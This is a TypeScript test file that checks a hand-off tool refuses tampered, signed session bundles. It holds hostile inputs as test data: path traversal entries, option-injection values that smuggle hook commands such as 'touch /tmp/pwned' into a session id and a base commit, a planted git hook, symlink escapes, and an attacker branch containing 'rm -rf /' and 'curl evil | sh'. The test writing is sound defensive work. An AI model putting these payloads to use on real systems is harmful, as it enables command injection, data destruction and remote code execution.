/**
 * Hostile hand-offs, each signed by a key the roster names and dana's seat pins — so each must be stopped by what it
 * holds, not by its signature. Each is refused with one line, and the whole watched folder (dana's clone, her
 * harness homes, her sleds state) is as it was: nothing written outside its place, and nothing at all.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { SnapshotManifest } from '../../core/snapshot.js';
import { generateSeatKeys, keyFingerprint } from '../../musher/handoff/keys.js';
import { disposeWorlds, git } from '../integration/handoff-transport-world.js';
import { DAY, hostileWorld, installedTranscriptPath, NOW, SESSION, sha256, TRANSCRIPT, type HostileWorld } from './hostile-world.js';

const seat = process.env.SLEDS_SEAT;
afterEach(() => {
  disposeWorlds();
  if (seat === undefined) delete process.env.SLEDS_SEAT;
  else process.env.SLEDS_SEAT = seat;
});

/** One refusal: the message is one line matching `line`; the watched tree and the store are untouched. */
async function refused(h: HostileWorld, id: string, line: RegExp, opts: { nowMs?: number } = {}): Promise<void> {
  const before = h.tree();
  const err = await h
    .dana(opts)
    .pickup(id, h.w.b)
    .then(
      () => null,
      (e: Error) => e,
    );
  expect(err, 'the pickup went through').not.toBeNull();
  expect(err!.message).not.toContain('\n');
  expect(err!.message).toMatch(line);
  expect(h.tree()).toBe(before);
  expect(h.handoffs.get(id)).toBeNull();
  expect(git(h.w.shared, 'for-each-ref', 'refs/sleds/picked/')).toBe('');
}

type Edit = (m: SnapshotManifest, blobs: Map<string, Buffer>, h: HostileWorld) => void;

function transcriptAt(path: string, sessionId: string | null = SESSION): Edit {
  return (m) => {
    m.transcript[0]!.path = path;
    m.transcript[0]!.sessionId = sessionId;
  };
}

function untracked(path: string, bytes: Buffer, mode: '100644' | '100755' | '120000' = '100644'): Edit {
  return (m, blobs) => {
    blobs.set(sha256(bytes), bytes);
    m.git!.untracked.push({ path, mode, hash: sha256(bytes), bytes: bytes.length });
  };
}

const CASES: Array<{ name: string; id: string; edit: Edit; line: RegExp }> = [
  { name: 'a transcript path that climbs out with ../', id: 'dts2k2m9qa4p', edit: transcriptAt(`projects/../../../escape/${SESSION}.jsonl`), line: /^hand-off refused: transcript path "projects\/\.\.\/.*" is not projects\/<slug>\/<session uuid>\.jsonl — nothing was written/ },
  { name: 'an absolute transcript path', id: 'abs2k2m9qa4p', edit: (m, b, h) => transcriptAt(join(h.w.root, 'abs-escape.jsonl'))(m, b, h), line: /^hand-off refused: transcript path ".*abs-escape\.jsonl" is not projects\/<slug>\/<session uuid>\.jsonl/ },
  { name: 'a transcript in the right shape for another session', id: 'ses2k2m9qa4p', edit: transcriptAt('projects/-x/00000000-0000-4000-8000-000000000000.jsonl'), line: /is not session 5e55a0de-.*'s/ },
  {
    name: "a session id that is an option: --settings={…}",
    id: 'ptn2k2m9qa4p',
    edit: (m) => {
      m.sessionId = '--settings={"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}';
    },
    line: /^hand-off refused: session id "--settings=\{.*" is not a UUID — nothing was written/,
  },
  { name: 'an untracked file that climbs out with ../', id: 'unt2k2m9qa4p', edit: untracked('../evil.sh', Buffer.from('#!/bin/sh\n')), line: /^hand-off refused: file path "\.\.\/evil\.sh" is not a plain relative path/ },
  { name: 'an untracked file inside .git', id: 'git2k2m9qa4p', edit: untracked('.git/hooks/post-checkout', Buffer.from('#!/bin/sh\ntouch /tmp/pwned\n'), '100755'), line: /^hand-off refused: file path "\.git\/hooks\/post-checkout" reaches into \.git/ },
  { name: 'an untracked symlink out of the worktree', id: 'sym2k2m9qa4p', edit: untracked('docs/link', Buffer.from('../../../../etc'), '120000'), line: /^hand-off refused: symlink "docs\/link" points outside the worktree/ },
  {
    name: 'a file written through a symlink the same bundle makes',
    id: 'thr2k2m9qa4p',
    edit: (m, b, h) => {
      untracked('out', Buffer.from('docs'), '120000')(m, b, h);
      untracked('out/x.txt', Buffer.from('through the link'))(m, b, h);
    },
    line: /^hand-off refused: file "out\/x\.txt" lies below the symlink "out"/,
  },
  {
    name: 'a base commit that is not a commit id',
    id: 'hed2k2m9qa4p',
    edit: (m) => {
      m.git!.head = '--upload-pack=touch /tmp/pwned';
    },
    line: /^hand-off refused: its base commit "--upload-pack=.*" is not a commit id/,
  },
  {
    name: 'a Codex rollout outside sessions/YYYY/MM/DD',
    id: 'cdx2k2m9qa4p',
    edit: (m) => {
      m.harness = 'codex';
      m.transcript[0]!.path = `sessions/../../config.toml`;
    },
    line: /^hand-off refused: rollout path "sessions\/\.\.\/\.\.\/config\.toml" is not sessions\/YYYY\/MM\/DD\/rollout-<time>-<thread uuid>\.jsonl/,
  },
];

describe('a hostile hand-off is refused in one line and writes nothing anywhere', { timeout: 60_000 }, () => {
  it.each(CASES)('$name', async (c) => {
    const h = await hostileWorld();
    const { manifest, blobs, history } = await h.honest();
    c.edit(manifest, blobs, h);
    await h.send(c.id, { manifest, blobs, history });
    await refused(h, c.id, c.line);
  });

  it('a transcript in its shape whose parent folder is a symlink out of the harness home', async () => {
    const h = await hostileWorld();
    const outside = join(h.w.root, 'outside');
    mkdirSync(outside);
    // Planted before the pickup (by an earlier tool, or anyone who could write there): ~/.claude/projects/<slug> → outside.
    symlinkSync(outside, join(h.claudeDir, installedTranscriptPath(h.w.b, 'syp2k2m9qa4p'), '..'));
    const { manifest, blobs, history } = await h.honest();
    await h.send('syp2k2m9qa4p', { manifest, blobs, history });
    await refused(h, 'syp2k2m9qa4p', /^hand-off syp2k2m9qa4p refused: .*-handoff-syp2k2m9qa4p is a symlink: "projects\/[^"]*-handoff-syp2k2m9qa4p\/.*\.jsonl" would be written through it — nothing was written$/);
  });

  it("a branch's roster that gives sam another key: the bundle signed with it is refused, naming sam and both fingerprints", async () => {
    const h = await hostileWorld();
    const mallory = generateSeatKeys();
    h.rosterSays(mallory);
    await h.send('kyc2k2m9qa4p', await h.honest(), { signer: mallory });
    const pinned = keyFingerprint(h.keys.sam.ed25519.publicKey);
    const claimed = keyFingerprint(mallory.ed25519.publicKey);
    await refused(h, 'kyc2k2m9qa4p', new RegExp(`^\\.sleds/roster\\.yml has keys for 'sam' other than the ones pinned on this seat \\(.*${pinned}.*${claimed}.*\\) — confirm the new keys with sam out of band`));
  });

  it('the signed header names another hand-off than the ref it was fetched by', async () => {
    const h = await hostileWorld();
    const honest = await h.honest();
    // A valid bundle of sam's, copied by someone with push rights under another id.
    await h.send('rig2k2m9qa4p', honest, { ref: 'cpy2k2m9qa4p' });
    await refused(h, 'cpy2k2m9qa4p', /^the bundle stored as hand-off cpy2k2m9qa4p is hand-off rig2k2m9qa4p — someone moved it; nothing was written/);
  });

  it('a header made in the future, beyond 5 minutes of skew', async () => {
    const h = await hostileWorld();
    await h.send('fut2k2m9qa4p', await h.honest(), { nowMs: NOW + DAY + 6 * 60_000 });
    await refused(h, 'fut2k2m9qa4p', /^hand-off fut2k2m9qa4p says it was made at .*, after now \(.*\) — check this machine's clock/);
  });

  it('a 1 GB blob under the hand-off ref is refused by its size, never read', async () => {
    const h = await hostileWorld();
    const work = join(h.w.root, 'attacker');
    git(h.w.root, 'init', '-q', work);
    const big = join(work, 'bundle.sleds');
    writeFileSync(big, '');
    truncateSync(big, 1024 ** 3);
    // Fastest zlib both ways: a gigabyte of zeros is a few megabytes on the wire.
    const blob = execFileSync('git', ['-c', 'core.compression=1', 'hash-object', '-w', '--no-filters', big], { cwd: work, encoding: 'utf8' }).trim();
    const tree = execFileSync('git', ['mktree'], { cwd: work, input: `100644 blob ${blob}\tbundle.sleds\n`, encoding: 'utf8' }).trim();
    const commit = execFileSync('git', ['-c', 'user.name=m', '-c', 'user.email=m@x', 'commit-tree', tree, '-m', 'big'], { cwd: work, encoding: 'utf8' }).trim();
    execFileSync('git', ['-c', 'pack.compression=1', 'push', '-q', h.w.shared, `${commit}:refs/sleds/handoffs/gig2k2m9qa4p`], { cwd: work });
    const rss = process.memoryUsage().rss;
    await refused(h, 'gig2k2m9qa4p', /^hand-off gig2k2m9qa4p on git remote origin \(.*\) is 1073741824 bytes, over the \d+-byte limit of a bundle — it was not made by sleds; nothing was read$/);
    // Refused by its size: never held in memory.
    expect(process.memoryUsage().rss - rss).toBeLessThan(256 * 1024 ** 2);
  });

  it('an honest Codex hand-off: the rollout and its fork parent land in CODEX_HOME/sessions/YYYY/MM/DD, nowhere else', async () => {
    const h = await hostileWorld();
    const { manifest, blobs, history } = await h.honest();
    const parent = '019ad105-0b2a-7d41-8e6f-1a2b3c4d5e6f';
    const parentBytes = Buffer.from(`${JSON.stringify({ type: 'session_meta', payload: { id: parent } })}\n`);
    blobs.set(sha256(parentBytes), parentBytes);
    manifest.harness = 'codex';
    manifest.transcript = [
      { role: 'fork-parent', sessionId: parent, path: `sessions/2026/11/28/rollout-2026-11-28T09-00-00-${parent}.jsonl`, sourcePath: '/x', hash: sha256(parentBytes), bytes: parentBytes.length },
      { role: 'session', sessionId: SESSION, path: `sessions/2026/11/29/rollout-2026-11-29T22-19-28-${SESSION}.jsonl`, sourcePath: '/y', hash: sha256(TRANSCRIPT), bytes: TRANSCRIPT.length },
    ];
    await h.send('cdh2k2m9qa4p', { manifest, blobs, history });
    const picked = await h.dana().pickup('cdh2k2m9qa4p', h.w.b);
    expect(picked).toMatchObject({ harness: 'codex', sessionId: SESSION });
    expect(execFileSync('cat', [join(h.codexHome, 'sessions', '2026', '11', '29', `rollout-2026-11-29T22-19-28-${SESSION}.jsonl`)])).toEqual(TRANSCRIPT);
    expect(execFileSync('cat', [join(h.codexHome, 'sessions', '2026', '11', '28', `rollout-2026-11-28T09-00-00-${parent}.jsonl`)])).toEqual(parentBytes);
    expect(execFileSync('find', [h.claudeDir, '-type', 'f'], { encoding: 'utf8' })).toBe('');
  });

  it('a swapped work branch on the remote changes nothing: the worktree is what the seal holds', async () => {
    const h = await hostileWorld();
    const honest = await h.honest();
    await h.send('swp2k2m9qa4p', honest);
    // Someone with push rights puts their own "work in progress" where sleds before the seal kept it.
    const evil = join(h.w.root, 'evil');
    git(h.w.root, 'clone', '-q', h.w.shared, evil);
    writeFileSync(join(evil, 'a.txt'), 'rm -rf / # the attacker was here\n');
    writeFileSync(join(evil, 'postinstall.sh'), 'curl evil | sh\n');
    git(evil, 'add', '.');
    git(evil, 'commit', '-q', '-m', 'totally the handoff');
    git(evil, 'push', '-q', 'origin', 'HEAD:refs/heads/sleds/handoff/swp2k2m9qa4p');

    const picked = await h.dana().pickup('swp2k2m9qa4p', h.w.b);
    expect(git(picked.dir, 'rev-parse', 'HEAD')).toBe(h.w.aHead);
    expect(git(picked.dir, 'show', 'HEAD:a.txt')).toBe('one\ntwo\nthree');
    expect(execFileSync('cat', [join(picked.dir, 'a.txt')], { encoding: 'utf8' })).toBe('one\nTWO\nthree\nfour\n');
    expect(() => execFileSync('cat', [join(picked.dir, 'postinstall.sh')], { stdio: 'pipe' })).toThrow();
    expect(execFileSync('cat', [join(h.claudeDir, installedTranscriptPath(h.w.b, 'swp2k2m9qa4p'))])).toEqual(TRANSCRIPT);
  });
});
